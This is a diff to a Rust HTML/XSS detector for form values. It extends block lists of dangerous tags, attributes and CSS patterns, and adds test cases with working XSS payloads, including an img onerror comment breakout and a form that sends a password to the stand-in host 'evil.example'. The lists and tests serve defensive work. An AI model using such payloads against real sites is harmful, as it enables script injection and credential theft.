@@ -22,9 +22,54 @@ const MAX_BREAKOUTS: usize = 8;
 
 /// Elements that run or load script, or change how the page is read.
 const DANGEROUS_TAGS: &[&str] = &[
-    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "style", "link", "meta",
-    "base", "isindex", "import", "vmlframe", "bgsound", "xml", "svg", "math", "xss", "portal",
-    "template", "handler", "listener",
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "style",
+    "link",
+    "meta",
+    "base",
+    "isindex",
+    "import",
+    "vmlframe",
+    "bgsound",
+    "xml",
+    "svg",
+    "math",
+    "xss",
+    "portal",
+    "template",
+    "handler",
+    "listener",
+    "html",
+    "head",
+    "body",
+    "form",
+    "input",
+    "button",
+    "textarea",
+    "select",
+    "keygen",
+    "layer",
+    "ilayer",
+    "set",
+    "animate",
+    "animatetransform",
+];
+
+/// Attributes that load data or code, or send a form elsewhere.
+const DANGEROUS_ATTRIBUTES: &[&str] = &[
+    "datasrc",
+    "datafld",
+    "dataformatas",
+    "formaction",
+    "dirname",
+    "xlink:href",
+    "srcdoc",
 ];
 
 /// Event handler attributes in browsers today (and a few legacy ones).
@@ -218,10 +263,14 @@ fn tags(lower: &[u8], high: bool) -> bool {
         }
         let Some(&first) = lower.get(i) else { break };
         if first == b'?' || first == b'!' {
-            // `<?xml`, `<!ENTITY`, `<![CDATA[`: documents inside the value.
-            if lower[i..].starts_with(b"?xml")
-                || lower[i..].starts_with(b"?import")
-                || (high && lower[i..].starts_with(b"!--"))
+            // `<?xml`, `<!ENTITY`, `<![CDATA[`, `<!--`: markup a form value
+            // has no use for.
+            if first == b'?'
+                || lower[i..].starts_with(b"!--")
+                || lower[i..].starts_with(b"![")
+                || lower[i..].starts_with(b"!doctype")
+                || lower[i..].starts_with(b"!attlist")
+                || lower[i..].starts_with(b"!element")
             {
                 return true;
             }
@@ -234,10 +283,13 @@ fn tags(lower: &[u8], high: bool) -> bool {
             .find(|&j| is_space(lower[j]) || lower[j] == b'/' || lower[j] == b'>')
             .unwrap_or(lower.len());
         let name = &lower[i..end];
-        let dangerous = DANGEROUS_TAGS.iter().any(|t| {
-            name == t.as_bytes()
-                || (name.starts_with(t.as_bytes()) && (high || name.len() > t.len() + 3))
-        });
+        // A namespaced element (`<xsl:stylesheet>`, `<html:script>`) is XML
+        // a browser may run.
+        let dangerous = name.contains(&b':')
+            || DANGEROUS_TAGS.iter().any(|t| {
+                name == t.as_bytes()
+                    || (name.starts_with(t.as_bytes()) && (high || name.len() > t.len() + 3))
+            });
         if dangerous {
             return true;
         }
@@ -325,19 +377,31 @@ fn attribute(name: &[u8], value: &[u8], high: bool, in_tag: bool) -> bool {
             return true;
         }
     }
+    if in_tag
+        && (DANGEROUS_ATTRIBUTES.iter().any(|a| a.as_bytes() == name) || name.starts_with(b"xmlns"))
+    {
+        return true;
+    }
     let value = decoded(value);
     if script_scheme(&value, high) {
         return true;
     }
     match name {
+        // CSS that runs script, loads from elsewhere, or breaks out of the
+        // declaration it was put in.
         b"style" => contains_any(
             &Transform::CssDecode.apply(&value).to_ascii_lowercase(),
             &[
                 "expression",
                 "javascript:",
-                "-moz-binding",
+                "binding",
                 "behavior:",
                 "behaviour:",
+                "url(",
+                "@import",
+                "}",
+                "{",
+                "/*",
             ],
         ),
         b"srcdoc" => value.contains(&b'<'),
@@ -484,6 +548,12 @@ mod tests {
             "<div style=\"width: expression(alert(1))\">",
             "<iframe srcdoc=\"&lt;script&gt;\">",
             "<x oneonerrorrror=alert(1)>",
+            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+            "<form action=\"https://evil.example\"><input name=password>",
+            "<xsl:stylesheet version=\"1.0\">",
+            "<div style=\"background:url(javascript:alert(1))\">",
+            "<x style=\"font-family:foo}color=red;\">",
+            "<span datasrc=#x datafld=c dataformatas=html></span>",
         ] {
             assert!(low(attack), "missed {attack:?}");
         }
